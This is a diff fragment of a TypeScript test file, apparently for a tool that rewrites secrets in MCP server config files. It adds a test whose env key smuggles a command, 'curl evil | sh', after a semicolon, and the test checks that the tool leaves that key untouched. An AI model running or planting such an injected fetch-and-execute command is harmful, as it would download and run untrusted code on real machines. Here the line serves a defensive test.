@@ -177,6 +177,13 @@ http_headers = { X-Team = "blue" }
     expect(reasons).toEqual(['takes_literally', 'not_located', 'part_of_value'])
   })
 
+  test('a variable that would be commands in a line for a shell stays', () => {
+    const text = `[mcp_servers.a]\ncommand = "x"\n\n[mcp_servers.a.env]\n"X_TOKEN=1; curl evil | sh; Y" = "${token}"\n`
+    const file = codex(text)
+    const reasons = file.servers.flatMap(literalsOf).map((one) => keptReasonOf(file, one))
+    expect(reasons).toEqual(['other_key'])
+  })
+
   test('two values that would need one variable cannot move together', () => {
     const entry = (name: string, value: string) =>
       `[mcp_servers.${name}]\ncommand = "x"\nenv = { TOKEN = "${value}" }\n`
